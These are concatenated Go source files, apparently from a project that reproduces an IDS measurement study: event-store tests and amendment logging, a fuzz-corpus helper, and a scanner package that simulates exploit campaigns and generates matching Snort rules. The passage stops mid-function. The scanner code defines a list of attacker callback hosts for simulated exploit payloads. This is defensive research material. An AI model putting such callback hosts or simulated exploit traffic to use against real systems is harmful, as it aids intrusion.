					t.Errorf("same generation %d with %d then %d events", lastGen, lastLen, sn.Len())
					return
				}
				lastGen, lastLen = sn.Generation(), sn.Len()
				evs := sn.Events()
				for i := 1; i < len(evs); i++ {
					if evs[i].Time.Before(evs[i-1].Time) {
						t.Error("snapshot not time-ordered")
						return
					}
				}
				_ = sn.CVE("2021-44221")
			}
		}()
	}
	wg.Wait()
	close(stop)
	readers.Wait()
	if got := st.Snapshot().Len(); got != writers*perWriter*2 {
		t.Fatalf("final count %d, want %d", got, writers*perWriter*2)
	}
}

func TestSnapshotCachedPerGeneration(t *testing.T) {
	st, err := Open(t.TempDir(), Options{})
	if err != nil {
		t.Fatal(err)
	}
	defer st.Close()
	if err := st.Append(testEvent(1)); err != nil {
		t.Fatal(err)
	}
	a := st.Snapshot()
	b := st.Snapshot()
	if a != b {
		t.Fatal("unchanged store rebuilt its snapshot")
	}
	if err := st.Append(testEvent(2)); err != nil {
		t.Fatal(err)
	}
	c := st.Snapshot()
	if c == a {
		t.Fatal("stale snapshot served after append")
	}
	if a.Len() != 1 || c.Len() != 2 {
		t.Fatalf("snapshot lens %d, %d", a.Len(), c.Len())
	}
}

func TestShardStatsAndLastAppend(t *testing.T) {
	dir := t.TempDir()
	st, err := Open(dir, Options{Shards: 4})
	if err != nil {
		t.Fatal(err)
	}
	defer st.Close()
	if !st.LastAppend().IsZero() {
		t.Fatal("empty store claims a last append")
	}
	for _, sh := range st.ShardStats() {
		if sh.Records != 0 || !sh.LastAppend.IsZero() {
			t.Fatalf("empty store shard stats %+v", sh)
		}
	}

	var want []ids.Event
	for i := 0; i < 200; i++ {
		want = append(want, testEvent(i))
	}
	before := time.Now()
	if err := st.AppendBatch(want); err != nil {
		t.Fatal(err)
	}
	stats := st.ShardStats()
	if len(stats) != 4 {
		t.Fatalf("%d shard stats, want 4", len(stats))
	}
	var records int
	var size int64
	for i, sh := range stats {
		if sh.Shard != i {
			t.Fatalf("shard %d reported as %d", i, sh.Shard)
		}
		records += sh.Records
		size += sh.SizeBytes
		if sh.Records > 0 && sh.LastAppend.Before(before) {
			t.Fatalf("shard %d last append %v predates the append", i, sh.LastAppend)
		}
	}
	if records != len(want) {
		t.Fatalf("shard records sum to %d, want %d", records, len(want))
	}
	if size != st.SizeBytes() {
		t.Fatalf("shard bytes sum to %d, store says %d", size, st.SizeBytes())
	}
	if la := st.LastAppend(); la.Before(before) || time.Since(la) > time.Minute {
		t.Fatalf("store LastAppend %v", la)
	}

	// Reopen: counts and sizes recover from disk; append recency does not
	// survive a restart (it is process liveness, not history).
	if err := st.Close(); err != nil {
		t.Fatal(err)
	}
	st, err = Open(dir, Options{Shards: 4})
	if err != nil {
		t.Fatal(err)
	}
	var recovered int
	for _, sh := range st.ShardStats() {
		recovered += sh.Records
	}
	if recovered != len(want) {
		t.Fatalf("recovered shard records sum to %d, want %d", recovered, len(want))
	}
	if !st.LastAppend().IsZero() {
		t.Fatal("reopened store claims in-process append recency")
	}
}

// BenchmarkAppendBatch measures store append throughput (events/sec) at the
// ingest pipeline's default batch size. The baseline lives in
// BENCH_fleet.json.
func BenchmarkAppendBatch(b *testing.B) {
	st, err := Open(b.TempDir(), Options{})
	if err != nil {
		b.Fatal(err)
	}
	defer st.Close()
	batch := make([]ids.Event, 256)
	for i := range batch {
		batch[i] = testEvent(i)
	}
	b.SetBytes(int64(len(batch)))
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if err := st.AppendBatch(batch); err != nil {
			b.Fatal(err)
		}
	}
	b.StopTimer()
	b.ReportMetric(float64(b.N*len(batch))/b.Elapsed().Seconds(), "events/s")
}
