package eventstore

import (
	"os"
	"path/filepath"
	"testing"
	"time"

	"repro/internal/ids"
)

func amendFor(ev ids.Event, newSID int, pub time.Time, cve string, gen uint64) Amendment {
	a := Amendment{Event: ev, OrigSID: ev.SID, OrigCVE: ev.CVE, Gen: gen}
	a.Event.SID = newSID
	a.Event.Published = pub
	a.Event.CVE = cve
	a.Event.Msg = "REGISTRY re-attribution"
	return a
}

func TestAmendmentCodecRoundTrip(t *testing.T) {
	a := Amendment{Event: testEvent(3), OrigSID: 12345, OrigCVE: "2021-44228", Gen: 7}
	payload := appendAmendment(nil, &a)
	got, err := decodeAmendment(payload)
	if err != nil {
		t.Fatal(err)
	}
	if !eventsEqual(got.Event, a.Event) || got.OrigSID != a.OrigSID ||
		got.OrigCVE != a.OrigCVE || got.Gen != a.Gen {
		t.Fatalf("round trip:\n got %+v\nwant %+v", got, a)
	}
	if _, err := decodeAmendment(payload[:len(payload)-2]); err == nil {
		t.Error("truncated amendment decoded")
	}
	if _, err := decodeAmendment(append(payload, 0)); err == nil {
		t.Error("oversized amendment decoded")
	}
}

// TestAmendmentsRelabelSnapshot: an amendment replaces the session's event in
// Snapshot, the raw shard logs stay untouched, and max generation wins.
func TestAmendmentsRelabelSnapshot(t *testing.T) {
	dir := t.TempDir()
	st, err := Open(dir, Options{Shards: 2})
	if err != nil {
		t.Fatal(err)
	}
	defer st.Close()
	ev := testEvent(0)
	if err := st.Append(ev); err != nil {
		t.Fatal(err)
	}
	earlier := ev.Published.AddDate(-1, 0, 0)
	a1 := amendFor(ev, 900001, earlier, "2020-0001", 1)
	a2 := amendFor(ev, 900002, earlier.AddDate(0, 1, 0), "2020-0002", 2)
	if err := st.AppendAmendments([]Amendment{a1}); err != nil {
		t.Fatal(err)
	}
	sn := st.Snapshot()
	if sn.Len() != 1 || sn.Events()[0].SID != 900001 {
		t.Fatalf("after gen-1 amendment: %+v", sn.Events())
	}
	if err := st.AppendAmendments([]Amendment{a2}); err != nil {
		t.Fatal(err)
	}
	sn = st.Snapshot()
	if sn.Len() != 1 || sn.Events()[0].SID != 900002 || sn.Events()[0].CVE != "2020-0002" {
		t.Fatalf("max generation should win: %+v", sn.Events())
	}
	// Raw funnels stay un-amended: the timeline seals raw history.
	raw := 0
	for _, part := range st.PublishedEvents() {
		raw += len(part)
	}
	if raw != 1 {
		t.Fatalf("raw events %d, want 1", raw)
	}
	for _, part := range st.PublishedEvents() {
		for _, rev := range part {
			if rev.SID != ev.SID {
				t.Fatalf("raw log was rewritten: %+v", rev)
			}
		}
	}
	if got := st.AmendmentStats(); got.Records != 2 || got.Sessions != 1 {
		t.Fatalf("AmendmentStats = %+v", got)
	}
}

// TestAmendmentsAddAndRetract: OrigSID 0 adds a previously-unmatched
// session's event; new SID 0 retracts one.
func TestAmendmentsAddAndRetract(t *testing.T) {
	dir := t.TempDir()
	st, err := Open(dir, Options{})
	if err != nil {
		t.Fatal(err)
	}
	defer st.Close()
	kept := testEvent(1)
	retracted := testEvent(2)
	if err := st.AppendBatch([]ids.Event{kept, retracted}); err != nil {
		t.Fatal(err)
	}
	// Addition: a session that matched nothing at ingest gains a label.
	added := testEvent(9)
	added.SID = 700001
	addAmend := Amendment{Event: added, OrigSID: 0, Gen: 3}
	// Retraction: the rule that matched `retracted` was withdrawn.
	retAmend := Amendment{Event: retracted, OrigSID: retracted.SID, OrigCVE: retracted.CVE, Gen: 3}
	retAmend.Event.SID = 0
	if err := st.AppendAmendments([]Amendment{addAmend, retAmend}); err != nil {
		t.Fatal(err)
	}
	sn := st.Snapshot()
	if sn.Len() != 2 {
		t.Fatalf("snapshot has %d events, want 2: %+v", sn.Len(), sn.Events())
	}
	sids := map[int]bool{}
	for _, ev := range sn.Events() {
		sids[ev.SID] = true
	}
	if !sids[kept.SID] || !sids[700001] || sids[retracted.SID] {
		t.Fatalf("resolved SIDs wrong: %v", sids)
	}
}

// TestAmendmentsSurviveReopen: the log is fsynced per append and recovered
// at Open; a torn tail costs only the torn record.
func TestAmendmentsSurviveReopen(t *testing.T) {
	dir := t.TempDir()
	st, err := Open(dir, Options{})
	if err != nil {
		t.Fatal(err)
	}
	ev := testEvent(0)
	if err := st.Append(ev); err != nil {
		t.Fatal(err)
	}
	a := amendFor(ev, 900100, ev.Published.AddDate(-1, 0, 0), "2020-0100", 1)
	if err := st.AppendAmendments([]Amendment{a}); err != nil {
		t.Fatal(err)
	}
	if err := st.Close(); err != nil {
		t.Fatal(err)
	}

	// Tear the tail: append garbage half-frame.
	path := filepath.Join(dir, "amend.log")
	f, err := os.OpenFile(path, os.O_WRONLY|os.O_APPEND, 0)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := f.Write([]byte{0x55, 0x01, 0x00, 0x00, 0xde, 0xad}); err != nil {
		t.Fatal(err)
	}
	f.Close()

	st2, err := Open(dir, Options{})
	if err != nil {
		t.Fatal(err)
	}
	defer st2.Close()
	as := st2.Amendments()
	if len(as) != 1 || as[0].Event.SID != 900100 || as[0].Gen != 1 {
		t.Fatalf("recovered amendments: %+v", as)
	}
	sn := st2.Snapshot()
	if sn.Len() != 1 || sn.Events()[0].SID != 900100 {
		t.Fatalf("recovered snapshot not amended: %+v", sn.Events())
	}
	// The torn tail was truncated: further appends must land cleanly.
	if err := st2.AppendAmendments([]Amendment{amendFor(ev, 900101, ev.Published, "2020-0101", 2)}); err != nil {
		t.Fatal(err)
	}
	if got := st2.Snapshot().Events()[0].SID; got != 900101 {
		t.Fatalf("post-recovery amendment lost: SID %d", got)
	}
}
