package eventstore

import (
	"bytes"
	"encoding/binary"
	"fmt"
	"net/netip"
	"os"
	"path/filepath"

	"repro/internal/ids"
)

// Retroactive re-attribution. Publishing a rule after ingest can change what
// history *should* say: a session that matched nothing (or matched a
// later-published rule) may now have an earlier-published match. The shard
// logs stay append-only and immutable — instead, re-labels land in a
// separate amendment log, and every read funnel (Snapshot here, the timeline
// View in internal/timeline) resolves amendments over the raw events.
//
// amend.log is framed like the shards (magic + length/CRC records) but has
// its own durability contract: every AppendAmendments fsyncs before
// returning. Amendments are produced by an idempotent rescan that restarts
// from scratch after a crash, so a lost tail costs re-derivation, never
// correctness — there is no commit-journal coupling to get wrong.
//
// An Amendment reassigns one session's label. Sessions are identified by
// (start time, source endpoint, destination endpoint) — the identity the
// matcher works from — and the newest ruleset generation wins when several
// amendments touch one session. Orig fields always describe the *ingest
// time* label (what the raw logs say), not the previous amendment, so
// resolution needs no ordering beyond max-generation.

// Amendment re-labels one session in the raw event history.
type Amendment struct {
	// Event is the session's new label: the same session key fields
	// (Time/Src/Dst) as the original event with the re-attributed
	// SID/Published/CVE/Msg. Event.SID == 0 is a retraction: the session no
	// longer matches any rule and its event disappears from resolved views.
	Event ids.Event
	// OrigSID and OrigCVE are the session's ingest-time label. OrigSID == 0
	// means the session matched nothing at ingest (it has no raw event; the
	// amendment adds one).
	OrigSID int
	OrigCVE string
	// Gen is the ruleset generation that produced this amendment. Higher
	// generations supersede lower ones for the same session.
	Gen uint64
}

var amendMagic = [8]byte{'E', 'V', 'A', 'M', 'D', 0x01, 0x01, '\n'}

// sessionKey identifies a session across raw events and amendments.
type sessionKey struct {
	unixNano int64
	src, dst netip.AddrPort
}

func keyOfEvent(ev *ids.Event) sessionKey {
	return sessionKey{
		unixNano: ev.Time.UnixNano(),
		src:      netip.AddrPortFrom(ev.Src.Addr, ev.Src.Port),
		dst:      netip.AddrPortFrom(ev.Dst.Addr, ev.Dst.Port),
	}
}

// SessionKeyOf returns a comparable session identity for ev, shared by the
// store's amendment resolution and the timeline's overlay.
func SessionKeyOf(ev *ids.Event) any { return keyOfEvent(ev) }

func appendAmendment(buf []byte, a *Amendment) []byte {
	buf = appendEvent(buf, &a.Event)
	buf = binary.LittleEndian.AppendUint32(buf, uint32(a.OrigSID))
	buf = appendString16(buf, a.OrigCVE)
	buf = binary.LittleEndian.AppendUint64(buf, a.Gen)
	return buf
}

func decodeAmendment(b []byte) (Amendment, error) {
	var a Amendment
	d := decoder{b: b}
	a.Event = decodeEventFields(&d)
	a.OrigSID = int(d.u32())
	a.OrigCVE = d.string16()
	a.Gen = d.u64()
	if d.err != nil {
		return Amendment{}, d.err
	}
	if len(d.b) != 0 {
		return Amendment{}, fmt.Errorf("eventstore: %d stray bytes after amendment", len(d.b))
	}
	return a, nil
}

// openAmendLog opens (creating if needed) dir/amend.log, recovering intact
// records and truncating any torn tail.
func (s *Store) openAmendLog() error {
	path := filepath.Join(s.dir, "amend.log")
	f, err := s.fs.OpenFile(path, os.O_CREATE|os.O_RDWR, 0o644)
	if err != nil {
		return err
	}
	raw, err := s.fs.ReadFile(path)
	if err != nil {
		f.Close()
		return err
	}
	var amends []Amendment
	var size int64
	switch {
	case len(raw) < len(amendMagic) && bytes.Equal(raw, amendMagic[:len(raw)]):
		if _, err := f.Write(amendMagic[:]); err != nil {
			f.Close()
			return err
		}
		if err := f.Truncate(int64(len(amendMagic))); err != nil {
			f.Close()
			return err
		}
		size = int64(len(amendMagic))
	case [8]byte(raw[:8]) != amendMagic:
		f.Close()
		return fmt.Errorf("eventstore: %s is not an amendment log", path)
	default:
		good, _, err := scanFrames(raw[len(amendMagic):], func(payload []byte) error {
			a, err := decodeAmendment(payload)
			if err != nil {
				return err
			}
			amends = append(amends, a)
			return nil
		})
		if err != nil {
			f.Close()
			return fmt.Errorf("eventstore: %s: %w", path, err)
		}
		size = int64(len(amendMagic) + good)
		if size < int64(len(raw)) {
			if err := f.Truncate(size); err != nil {
				f.Close()
				return err
			}
		}
	}
	if _, err := f.Seek(size, 0); err != nil {
		f.Close()
		return err
	}
	s.amendF = f
	s.amendSize = size
	s.amends.Store(&amends)
	if len(amends) > 0 {
		s.gen.Add(1)
	}
	return nil
}

// AppendAmendments durably appends re-attribution records: the write is
// fsynced before the call returns and the amendments are visible to the next
// Snapshot (the store generation bumps). Safe to call concurrently with
// appends and snapshots.
func (s *Store) AppendAmendments(as []Amendment) error {
	if len(as) == 0 {
		return nil
	}
	var buf []byte
	var payload []byte
	for i := range as {
		payload = appendAmendment(payload[:0], &as[i])
		buf = appendFrame(buf, payload)
	}
	s.amendMu.Lock()
	defer s.amendMu.Unlock()
	if s.amendBad != nil {
		return s.amendBad
	}
	if _, err := s.amendF.Write(buf); err != nil {
		// Roll back to the last good boundary; poison on failure, as the
		// shards do, so later appends cannot land after garbage.
		if terr := s.amendF.Truncate(s.amendSize); terr != nil {
			s.amendBad = fmt.Errorf("eventstore: amendment log poisoned: %w", terr)
		} else {
			s.amendF.Seek(s.amendSize, 0)
		}
		return fmt.Errorf("eventstore: appending amendments: %w", err)
	}
	if err := s.amendF.Sync(); err != nil {
		return fmt.Errorf("eventstore: syncing amendment log: %w", err)
	}
	s.amendSize += int64(len(buf))
	cur := *s.amends.Load()
	next := append(cur, as...)
	s.amends.Store(&next)
	s.gen.Add(1)
	return nil
}

// Amendments returns every recorded amendment in append order. The slice is
// an immutable prefix; callers may hold it indefinitely.
func (s *Store) Amendments() []Amendment {
	a := *s.amends.Load()
	return a[:len(a):len(a)]
}

// ResolveAmendments returns the per-session winning amendment set: for each
// amended session, the amendment from the highest ruleset generation. The
// map key is SessionKeyOf of the amendment's Event.
func ResolveAmendments(as []Amendment) map[any]Amendment {
	if len(as) == 0 {
		return nil
	}
	out := make(map[any]Amendment, len(as))
	for _, a := range as {
		k := keyOfEvent(&a.Event)
		if cur, ok := out[k]; !ok || a.Gen > cur.Gen {
			out[k] = a
		}
	}
	return out
}

// applyAmendments resolves amendments over a sorted raw event slice: amended
// sessions take their newest re-label (or vanish, for retractions), and
// amendments for sessions with no raw event add one. The result is in
// canonical order. With no amendments the input is returned untouched.
func applyAmendments(events []ids.Event, as []Amendment) []ids.Event {
	if len(as) == 0 {
		return events
	}
	wins := make(map[sessionKey]Amendment, len(as))
	for _, a := range as {
		k := keyOfEvent(&a.Event)
		if cur, ok := wins[k]; !ok || a.Gen > cur.Gen {
			wins[k] = a
		}
	}
	out := make([]ids.Event, 0, len(events)+len(wins))
	for i := range events {
		k := keyOfEvent(&events[i])
		a, ok := wins[k]
		if !ok {
			out = append(out, events[i])
			continue
		}
		delete(wins, k)
		if a.Event.SID == 0 {
			continue // retraction
		}
		out = append(out, a.Event)
	}
	// Leftovers label sessions with no raw event (unmatched at ingest).
	for _, a := range wins {
		if a.Event.SID != 0 {
			out = append(out, a.Event)
		}
	}
	SortEvents(out)
	return out
}

// ApplyAmendments resolves amendments over a canonically sorted raw event
// slice — the same resolution Snapshot applies, exported for read paths that
// materialize events outside the store (the timeline's as-of overlay).
func ApplyAmendments(events []ids.Event, as []Amendment) []ids.Event {
	return applyAmendments(events, as)
}

// EncodeAmendment appends a's wire encoding to buf — the same record format
// amend.log frames on disk, exported so the replica protocol can ship
// amendment records verbatim.
func EncodeAmendment(buf []byte, a *Amendment) []byte {
	return appendAmendment(buf, a)
}

// DecodeAmendment decodes one EncodeAmendment payload.
func DecodeAmendment(b []byte) (Amendment, error) {
	return decodeAmendment(b)
}

// AmendmentStats summarizes the resolved amendment set for metrics.
type AmendmentStats struct {
	Records  int // raw amendment records
	Sessions int // distinct amended sessions after max-generation resolution
}

// AmendmentStats reports the amendment log's size in records and distinct
// sessions.
func (s *Store) AmendmentStats() AmendmentStats {
	as := *s.amends.Load()
	wins := make(map[sessionKey]struct{}, len(as))
	for i := range as {
		wins[keyOfEvent(&as[i].Event)] = struct{}{}
	}
	return AmendmentStats{Records: len(as), Sessions: len(wins)}
}
