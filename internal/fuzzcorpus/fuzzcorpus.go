// Package fuzzcorpus writes seed-corpus files for `go test -fuzz` targets.
//
// The fuzz targets add their seeds in code with f.Add, which covers fuzzing
// runs; committing the same seeds under testdata/fuzz/<FuzzName>/ makes
// plain `go test` execute them as subtests too, and gives a fuzzing run its
// starting population without a warm-up. Each package with fuzz targets has
// a REGEN_FUZZ_CORPUS-gated test that rewrites its corpus through this
// package, so the in-code seeds and the committed files cannot drift.
package fuzzcorpus

import (
	"fmt"
	"os"
	"path/filepath"
	"strconv"
	"testing"
)

// header is the go command's corpus file version marker.
const header = "go test fuzz v1"

// Write rewrites testdata/fuzz/<fuzzName>/ (relative to the calling
// package's directory, which is the working directory under go test) to
// hold exactly the given single-[]byte-argument seeds, one file per seed.
func Write(tb testing.TB, fuzzName string, seeds [][]byte) {
	tb.Helper()
	dir := filepath.Join("testdata", "fuzz", fuzzName)
	// Only seed-* files are regenerated; fuzzer-found regression inputs
	// (hash-named files the fuzz engine wrote on a failure) are kept.
	old, err := filepath.Glob(filepath.Join(dir, "seed-*"))
	if err != nil {
		tb.Fatal(err)
	}
	for _, path := range old {
		if err := os.Remove(path); err != nil {
			tb.Fatal(err)
		}
	}
	if err := os.MkdirAll(dir, 0o755); err != nil {
		tb.Fatal(err)
	}
	for i, seed := range seeds {
		body := fmt.Sprintf("%s\n[]byte(%s)\n", header, strconv.Quote(string(seed)))
		path := filepath.Join(dir, fmt.Sprintf("seed-%03d", i))
		if err := os.WriteFile(path, []byte(body), 0o644); err != nil {
			tb.Fatal(err)
		}
	}
	tb.Logf("wrote %d seeds to %s", len(seeds), dir)
}

// Regen reports whether corpus regeneration was requested via the
// REGEN_FUZZ_CORPUS environment variable; the gated tests skip otherwise.
func Regen() bool { return os.Getenv("REGEN_FUZZ_CORPUS") != "" }
