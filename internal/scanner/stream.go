package scanner

import (
	"container/heap"
	"fmt"
	"math"
	"math/rand"
	"time"

	"repro/internal/datasets"
	"repro/internal/netsim"
)

// Stream generates the workload lazily, in ascending time order, with
// memory proportional to the number of temporal processes (one per study
// CVE, one per Log4Shell variant, one each for legacy scanning and
// background noise — ~80 in total) instead of the event count. Build is a
// thin wrapper that collects a Stream, so the materialized and streaming
// paths consume byte-identical blueprint sequences.
//
// Each process owns a private rng derived from (Config.Seed, process index)
// and emits its events in ascending order through netsim's order-statistics
// samplers; a k-way heap merge interleaves the processes deterministically,
// breaking time ties by process index.
type Stream struct {
	subs  subHeap
	total int
}

// subStream is one temporal process: the lookahead blueprint plus the
// closure that generates the next one.
type subStream struct {
	idx int
	cur Blueprint
	gen func() (Blueprint, bool)
}

type subHeap []*subStream

func (h subHeap) Len() int { return len(h) }
func (h subHeap) Less(i, j int) bool {
	if !h[i].cur.Time.Equal(h[j].cur.Time) {
		return h[i].cur.Time.Before(h[j].cur.Time)
	}
	return h[i].idx < h[j].idx
}
func (h subHeap) Swap(i, j int)     { h[i], h[j] = h[j], h[i] }
func (h *subHeap) Push(x any)       { *h = append(*h, x.(*subStream)) }
func (h *subHeap) Pop() any         { old := *h; n := len(old); s := old[n-1]; *h = old[:n-1]; return s }
func (h *subHeap) add(s *subStream) { heap.Push(h, s) }
func (h *subHeap) fix()             { heap.Fix(h, 0) }
func (h *subHeap) drop() *subStream { return heap.Pop(h).(*subStream) }
func (h subHeap) peek() *subStream  { return h[0] }

// procSeed derives the dedicated rng seed for process idx via a
// splitmix64-style mix, so sibling processes are decorrelated even for
// adjacent study seeds.
func procSeed(seed int64, idx uint64) int64 {
	z := uint64(seed) + 0x9e3779b97f4a7c15*(idx+1)
	z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9
	z = (z ^ (z >> 27)) * 0x94d049bb133111eb
	return int64(z ^ (z >> 31))
}

// NewStream builds the lazy workload generator. The configuration semantics
// match Build exactly — Build is collect(NewStream).
func NewStream(cfg Config) (*Stream, error) {
	cfg = cfg.withDefaults()
	boost := cfg.Boost
	if boost < 1 {
		boost = 1
	}
	pool := netsim.MustPool(cfg.Seed+1, scannerPoolPrefixes...)
	scanners := netsim.NewSources(cfg.Seed+2, pool, cfg.ScannerSources)

	exploits := Exploits()
	exByCVE := make(map[string]*Exploit, len(exploits))
	for i := range exploits {
		exByCVE[exploits[i].CVE] = &exploits[i]
	}

	s := &Stream{}
	idx := 0
	addSub := func(gen func() (Blueprint, bool)) {
		sub := &subStream{idx: idx, gen: gen}
		idx++
		if bp, ok := gen(); ok {
			sub.cur = bp
			s.subs.add(sub)
		}
	}

	exploitTotal := 0
	for _, c := range datasets.StudyCVEs() {
		if c.ID == "2021-44228" {
			continue // Log4Shell handled per variant below
		}
		ex, ok := exByCVE[c.ID]
		if !ok {
			return nil, fmt.Errorf("scanner: no exploit definition for CVE-%s", c.ID)
		}
		n := scaledCount(c.Events, cfg.Scale) * boost
		exploitTotal += n
		first := clampToWindow(firstAttack(c))
		burst := first
		if c.Published.After(burst) {
			// Pre-publication observations are sporadic; the campaign's
			// burst follows the public announcement (Figure 5c).
			burst = c.Published
		}
		// Announcement-driven bursts fade with how late exploitation began
		// (see Build's rationale; the decay is identical here).
		bw := cfg.BurstWeight
		if bw == 0 {
			bw = 0.45
		}
		if lag := first.Sub(c.Published); lag > 0 {
			bw *= math.Exp(-lag.Hours() / 24 / 7)
		}
		rng := rand.New(rand.NewSource(procSeed(cfg.Seed, uint64(idx))))
		times := netsim.CampaignTimes{
			First:       first,
			BurstStart:  burst,
			End:         cfg.End,
			BurstWeight: bw,
			TailPower:   2, // rising legacy-scanning rate (Figure 3)
		}.Stream(rng, n)
		cve, sid := c.ID, ex.SID
		addSub(func() (Blueprint, bool) {
			t, ok := times.Next()
			if !ok {
				return Blueprint{}, false
			}
			return Blueprint{
				Time:    t,
				Src:     scanners.PickWith(rng),
				DstPort: choosePort(rng, ex.Port, cfg.OffPortFraction),
				Payload: ex.Craft(rng),
				CVE:     cve,
				SID:     sid,
			}, true
		})
	}

	// Log4Shell variants.
	groups := map[string]datasets.Log4ShellGroup{}
	sidMeta := map[int]datasets.Log4ShellSID{}
	for _, g := range datasets.Log4ShellGroups() {
		groups[g.Name] = g
		for _, sm := range g.SIDs {
			sidMeta[sm.SID] = sm
		}
	}
	for _, v := range log4ShellVariants() {
		meta, ok := sidMeta[v.SID]
		if !ok {
			return nil, fmt.Errorf("scanner: Log4Shell sid %d missing from Table 6 data", v.SID)
		}
		n := scaledCount(int(float64(defaultLog4ShellEvents)*v.Weight), cfg.Scale) * boost
		exploitTotal += n
		first := groups[v.Group].Deployed().Add(meta.AMinusD.D)
		rng := rand.New(rand.NewSource(procSeed(cfg.Seed, uint64(idx))))
		times := netsim.CampaignTimes{
			First:       clampToWindow(first),
			End:         cfg.End,
			BurstWeight: 0.6, // Log4Shell was front-loaded (Figure 8)
			BurstMean:   20 * 24 * time.Hour,
		}.Stream(rng, n)
		variant := v
		addSub(func() (Blueprint, bool) {
			t, ok := times.Next()
			if !ok {
				return Blueprint{}, false
			}
			var port uint16
			if variant.Context == datasets.CtxSMTP {
				port = 25
			} else {
				port = choosePort(rng, 8080, cfg.OffPortFraction)
			}
			return Blueprint{
				Time:    t,
				Src:     scanners.PickWith(rng),
				DstPort: port,
				Payload: craftLog4Shell(variant, rng),
				CVE:     "2021-44228",
				SID:     variant.SID,
			}, true
		})
	}

	// Legacy scanning: longstanding-CVE exploitation from the broad botnet
	// population, spread uniformly over the whole window.
	if cfg.LegacyScans > 0 {
		legacyPool := netsim.MustPool(cfg.Seed+5, "45.95.168.0/21", "92.255.85.0/24", "196.251.80.0/20")
		legacySources := netsim.NewSources(cfg.Seed+6, legacyPool, 1500)
		rng := rand.New(rand.NewSource(procSeed(cfg.Seed, uint64(idx))))
		times := netsim.NewUniformTimes(rng, datasets.StudyWindow.Start, cfg.End, cfg.LegacyScans)
		addSub(func() (Blueprint, bool) {
			t, ok := times.Next()
			if !ok {
				return Blueprint{}, false
			}
			src := legacySources.PickWith(rng)
			payload, port, cve, sid := craftLegacy(rng)
			return Blueprint{
				Time:    t,
				Src:     src,
				DstPort: choosePort(rng, port, cfg.OffPortFraction),
				Payload: payload,
				CVE:     cve,
				SID:     sid,
				Legacy:  true,
			}, true
		})
	}

	// Background radiation: high-volume, rule-free traffic from a much
	// larger source population.
	noiseCount := cfg.Noise
	if noiseCount == 0 {
		noiseCount = (exploitTotal + cfg.LegacyScans) / 10
	}
	if noiseCount > 0 {
		noisePool := netsim.MustPool(cfg.Seed+3, "23.128.0.0/16", "162.142.0.0/16", "167.94.0.0/16")
		noiseSources := netsim.NewSources(cfg.Seed+4, noisePool, 2000)
		rng := rand.New(rand.NewSource(procSeed(cfg.Seed, uint64(idx))))
		times := netsim.NewUniformTimes(rng, datasets.StudyWindow.Start, cfg.End, noiseCount)
		addSub(func() (Blueprint, bool) {
			t, ok := times.Next()
			if !ok {
				return Blueprint{}, false
			}
			return Blueprint{
				Time:    t,
				Src:     noiseSources.PickWith(rng),
				DstPort: noisePort(rng),
				Payload: noisePayload(rng),
			}, true
		})
	}

	s.total = exploitTotal + cfg.LegacyScans + noiseCount
	return s, nil
}

// Total is the exact number of blueprints the stream will emit — known up
// front because per-campaign counts derive from the appendix volumes, not
// from sampling.
func (s *Stream) Total() int { return s.total }

// Next returns the next blueprint in ascending time order, or false when
// the workload is exhausted.
func (s *Stream) Next() (Blueprint, bool) {
	if s.subs.Len() == 0 {
		return Blueprint{}, false
	}
	sub := s.subs.peek()
	out := sub.cur
	if bp, ok := sub.gen(); ok {
		sub.cur = bp
		s.subs.fix()
	} else {
		s.subs.drop()
	}
	return out, true
}
