// Package scanner simulates the adversarial side of the measurement: for
// every studied CVE it crafts application-layer exploit payloads shaped like
// the real exploits (HTTP URI/header/cookie/body injection, SMTP, raw TCP
// protocol abuse), assembles them into campaigns whose timing matches the
// paper's Appendix E, and produces the matching dated Snort ruleset whose
// publication times reproduce the paper's F/D lifecycle events.
//
// The payloads and signatures are mutually calibrated: each CVE's payload
// carries that exploit's distinctive marker and each signature matches
// exactly its own CVE's traffic, so the IDS attribution downstream is exact
// — except where the paper itself observed cross-CVE phenomena (the
// Log4Shell obfuscation variants, the untargeted OGNL scanning of
// Appendix C), which are reproduced deliberately.
package scanner

import (
	"fmt"
	"math/rand"
	"strings"
)

// Exploit describes how one CVE is exploited on the wire and how the IDS
// vendor's signature detects it.
type Exploit struct {
	// CVE is the identifier without the CVE- prefix.
	CVE string
	// Port is the service port the exploit nominally targets. Scanners
	// sometimes spray other ports; the paper's port-insensitive rule
	// rewriting exists exactly because signatures assume this port.
	Port uint16
	// SID is the detecting signature's ID (synthetic 9xxxxx range except
	// where the paper names real SIDs).
	SID int
	// Rule is the Snort rule text detecting this exploit.
	Rule string
	// Craft builds one exploit payload. Implementations draw incidental
	// variation (hosts, tokens) from rng but always include the marker the
	// rule matches.
	Craft func(rng *rand.Rand) []byte
}

// evilHosts provides incidental variation for callback hosts in payloads.
var evilHosts = []string{
	"185.220.101.34", "45.155.205.233", "194.31.98.124", "91.241.19.84",
	"losmi.example.net", "cdn-updates.example.org",
}

func pick(rng *rand.Rand, xs []string) string { return xs[rng.Intn(len(xs))] }

// httpGet renders a GET request with optional extra headers.
func httpGet(uri string, headers ...string) []byte {
	return httpReq("GET", uri, "", headers...)
}

// httpPost renders a POST request with a body and Content-Length.
func httpPost(uri, body string, headers ...string) []byte {
	return httpReq("POST", uri, body, headers...)
}

func httpReq(method, uri, body string, headers ...string) []byte {
	var b strings.Builder
	fmt.Fprintf(&b, "%s %s HTTP/1.1\r\n", method, uri)
	b.WriteString("Host: target\r\n")
	hasUA := false
	for _, h := range headers {
		b.WriteString(h)
		b.WriteString("\r\n")
		if strings.HasPrefix(strings.ToLower(h), "user-agent:") {
			hasUA = true
		}
	}
	if !hasUA {
		b.WriteString("User-Agent: Mozilla/5.0 (compatible; probe)\r\n")
	}
	if body != "" {
		fmt.Fprintf(&b, "Content-Length: %d\r\n", len(body))
		b.WriteString("Content-Type: application/x-www-form-urlencoded\r\n")
	}
	b.WriteString("\r\n")
	b.WriteString(body)
	return []byte(b.String())
}

// rule builds the standard study rule text for a CVE marker.
func ruleText(msg, cve string, sid int, port uint16, options string) string {
	portSpec := "any"
	if port != 0 {
		portSpec = fmt.Sprintf("%d", port)
	}
	return fmt.Sprintf(
		`alert tcp any any -> any %s (msg:"%s"; flow:to_server,established; %s reference:cve,%s; sid:%d; rev:1;)`,
		portSpec, msg, options, cve, sid)
}

// content renders a content option with optional sticky buffer.
func content(pattern, buffer string) string {
	opt := fmt.Sprintf("content:%q; ", pattern)
	if buffer != "" {
		opt += buffer + "; "
